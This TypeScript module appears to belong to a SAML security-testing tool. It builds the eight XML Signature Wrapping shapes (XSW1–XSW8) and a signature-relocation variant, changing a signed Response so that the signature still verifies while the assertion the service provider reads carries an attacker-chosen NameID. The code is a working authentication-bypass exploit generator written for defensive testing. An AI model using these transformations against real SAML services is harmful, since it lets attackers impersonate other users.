// XML Signature Wrapping, the eight shapes of Somorovsky et al., "On Breaking SAML: Be Whoever
// You Want to Be" (USENIX Security 2012, §4 and fig. 4–11), laid out as SAML Raider lays them
// out (XSW1–XSW8), so an SP developer's results compare with that tool's. Each takes a signed
// Response (a mutable @xmldom/xmldom document) and leaves the signed original where the
// signature still resolves to it, while the element an SP consumes is the attacker's copy.
import { NS } from '../xml/dom';

/** The ID the attacker's copy takes when the original keeps its own. */
export const EVIL_ID_PREFIX = '_evil_';

export type WrappingShape = 'xsw1' | 'xsw2' | 'xsw3' | 'xsw4' | 'xsw5' | 'xsw6' | 'xsw7' | 'xsw8' | 'signature-relocated';

export interface WrappingContext {
  /** Applied to the attacker's copy (its Subject's NameID is changed). */
  attackerNameId: string;
}

function childSignature(el: Element): Element | null {
  for (let c = el.firstChild; c; c = c.nextSibling) {
    if (c.nodeType === 1 && (c as Element).namespaceURI === NS.dsig && (c as Element).localName === 'Signature') return c as Element;
  }
  return null;
}

function firstAssertion(response: Element): Element {
  for (let c = response.firstChild; c; c = c.nextSibling) {
    if (c.nodeType === 1 && (c as Element).namespaceURI === NS.assertion && (c as Element).localName === 'Assertion') return c as Element;
  }
  throw new Error('Bug: wrapping needs a Response with an Assertion');
}

function cloneWithoutSignature(el: Element): Element {
  const copy = el.cloneNode(true) as Element;
  const sig = childSignature(copy);
  if (sig) copy.removeChild(sig);
  return copy;
}

/** What the attacker changes in the copy the SP is meant to consume: who logs in. */
export function impersonate(assertion: Element, ctx: WrappingContext): void {
  const nameIds = assertion.getElementsByTagNameNS(NS.assertion, 'NameID');
  for (let i = 0; i < nameIds.length; i++) {
    const n = nameIds.item(i)!;
    while (n.firstChild) n.removeChild(n.firstChild);
    n.appendChild(assertion.ownerDocument!.createTextNode(ctx.attackerNameId));
  }
}

/** Apply one wrapping shape in place. The Response (xsw1, xsw2) or the assertion (others) must be signed. */
export function applyWrapping(doc: Document, shape: WrappingShape, ctx: WrappingContext): void {
  const response = doc.documentElement!;
  const evilId = (id: string | null) => `${EVIL_ID_PREFIX}${(id ?? '').replace(/^_/, '')}`;
  switch (shape) {
    case 'xsw1':
    case 'xsw2': {
      // The unsigned copy of the original Response goes inside (xsw1) or before (xsw2) the
      // Signature; the root becomes the attacker's Response with a new ID.
      const sig = childSignature(response);
      if (!sig) throw new Error('Bug: xsw1/xsw2 need a signed Response');
      const original = cloneWithoutSignature(response);
      if (shape === 'xsw1') sig.appendChild(original);
      else response.insertBefore(original, sig);
      response.setAttribute('ID', evilId(response.getAttribute('ID')));
      impersonate(firstAssertion(response), ctx);
      return;
    }
    case 'xsw3': {
      // An unsigned attacker's assertion (new ID) before the signed one.
      const a = firstAssertion(response);
      const evil = cloneWithoutSignature(a);
      evil.setAttribute('ID', evilId(a.getAttribute('ID')));
      impersonate(evil, ctx);
      response.insertBefore(evil, a);
      return;
    }
    case 'xsw4': {
      // The attacker's assertion takes the original's place and holds the signed original as a child.
      const a = firstAssertion(response);
      const evil = cloneWithoutSignature(a);
      evil.setAttribute('ID', evilId(a.getAttribute('ID')));
      impersonate(evil, ctx);
      response.replaceChild(evil, a);
      evil.appendChild(a);
      return;
    }
    case 'xsw5':
    case 'xsw6':
    case 'xsw8': {
      // The signed assertion in place is changed (new ID, attacker's subject) and keeps its
      // Signature; an unsigned copy of the original, which the Reference now resolves to, goes to
      // the end of the Response (xsw5), into the Signature (xsw6), or into a ds:Object of it (xsw8).
      const a = firstAssertion(response);
      const sig = childSignature(a);
      if (!sig) throw new Error(`Bug: ${shape} needs a signed assertion`);
      const copy = cloneWithoutSignature(a);
      a.setAttribute('ID', evilId(a.getAttribute('ID')));
      impersonate(a, ctx);
      if (shape === 'xsw5') response.appendChild(copy);
      else if (shape === 'xsw6') sig.appendChild(copy);
      else {
        const obj = doc.createElementNS(NS.dsig, `${sig.prefix ? `${sig.prefix}:` : ''}Object`);
        obj.appendChild(copy);
        sig.appendChild(obj);
      }
      return;
    }
    case 'xsw7': {
      // An unsigned attacker's copy (same ID) in <samlp:Extensions> before the signed assertion:
      // Extensions admits any element, so schema validation does not catch it.
      const a = firstAssertion(response);
      const evil = cloneWithoutSignature(a);
      impersonate(evil, ctx);
      const ext = doc.createElementNS(NS.protocol, 'samlp:Extensions');
      ext.appendChild(evil);
      // StatusResponseType (SAML core §3.2.2): Issuer, Signature?, Extensions?, Status.
      let status: Node | null = response.firstChild;
      while (status && !(status.nodeType === 1 && (status as Element).localName === 'Status')) status = status.nextSibling;
      response.insertBefore(ext, status ?? a);
      return;
    }
    case 'signature-relocated': {
      // Signature exclusion with the proof kept elsewhere: the consumed assertion loses its
      // Signature and gets the attacker's subject and a new ID; the signed original moves into Extensions,
      // so a verifier that checks "some valid signature in the document" is satisfied.
      const a = firstAssertion(response);
      const original = a.cloneNode(true) as Element;
      const sig = childSignature(a);
      if (!sig) throw new Error('Bug: signature-relocated needs a signed assertion');
      a.removeChild(sig);
      // A new ID, so the Reference resolves to the relocated original alone (no duplicate ID to catch).
      a.setAttribute('ID', evilId(a.getAttribute('ID')));
      impersonate(a, ctx);
      const ext = doc.createElementNS(NS.protocol, 'samlp:Extensions');
      ext.appendChild(original);
      let status: Node | null = response.firstChild;
      while (status && !(status.nodeType === 1 && (status as Element).localName === 'Status')) status = status.nextSibling;
      response.insertBefore(ext, status ?? a);
      return;
    }
  }
}
